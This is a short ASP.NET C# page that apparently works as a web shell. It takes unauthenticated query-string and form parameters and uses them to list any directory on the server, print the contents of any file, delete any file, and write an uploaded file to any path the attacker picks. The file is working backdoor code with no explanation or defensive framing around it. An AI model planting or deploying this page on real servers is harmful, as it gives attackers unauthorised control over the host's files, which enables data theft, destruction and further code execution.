<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
	string dir = Request.QueryString["d"];
	foreach (string f in Directory.GetFiles(dir)) Response.Write(f + "<br>");
	if (Request.QueryString["v"] != null) Response.Write(File.ReadAllText(Request.QueryString["v"]));
	if (Request.QueryString["x"] != null) File.Delete(Request.QueryString["x"]);
	if (Request.Files.Count > 0) Request.Files[0].SaveAs(Request.Form["to"]);
%>
